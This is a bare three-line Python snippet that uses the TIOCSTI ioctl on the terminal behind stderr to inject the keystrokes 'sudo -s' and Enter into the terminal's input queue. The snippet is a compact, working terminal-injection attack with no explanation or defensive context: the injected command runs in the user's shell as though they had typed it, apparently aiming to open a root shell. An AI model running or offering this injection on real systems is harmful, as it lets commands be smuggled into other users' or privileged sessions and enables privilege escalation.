import fcntl, termios, sys
tty = sys.stderr
[fcntl.ioctl(tty, termios.TIOCSTI, b) for b in "sudo -s\n"]
